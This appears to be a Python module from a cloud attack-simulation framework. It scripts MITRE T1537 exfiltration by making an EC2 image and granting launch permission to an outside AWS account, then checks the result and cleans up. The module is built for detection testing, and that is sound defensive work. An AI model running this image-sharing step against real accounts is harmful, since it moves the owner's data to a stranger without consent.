"""Make an image of an instance and share it with a foreign account."""

from bastide.attack import scenery
from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="An instance's image is shared with a stranger",
    mitre=("T1537",),
    tactic="exfiltration",
    detectors=("GuardDuty Exfiltration:IAMUser/AnomalousBehavior",),
    expected=Recorded("no condition key sees with whom an image is shared; its block stops the world only"),
    source='Amazon EC2 User Guide, "Share an AMI with specific AWS accounts"',
)


def prepare(stage: Stage) -> Scene:
    """An image of an instance."""
    network = scenery.network(stage)
    instance = scenery.instance(stage, network.subnet)
    image = stage.owner().client("ec2").create_image(InstanceId=instance, Name=stage.name("golden"))["ImageId"]
    return {"network": network, "instance": instance, "image": image}


def attack(stage: Stage, scene: Scene) -> None:
    """Share it."""
    stage.attacker().client("ec2").modify_image_attribute(
        ImageId=scene["image"], LaunchPermission={"Add": [{"UserId": stage.outsider}]}
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The stranger may launch it."""
    found = stage.owner().client("ec2").describe_image_attribute(ImageId=scene["image"], Attribute="launchPermission")
    return stage.outsider in [one.get("UserId") for one in found["LaunchPermissions"]]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Deregister the image, terminate the instance."""
    stage.owner().client("ec2").deregister_image(ImageId=scene["image"])
    scenery.drop_instances(stage, instance_id=scene["instance"])
    scenery.drop_network(stage, scene["network"])
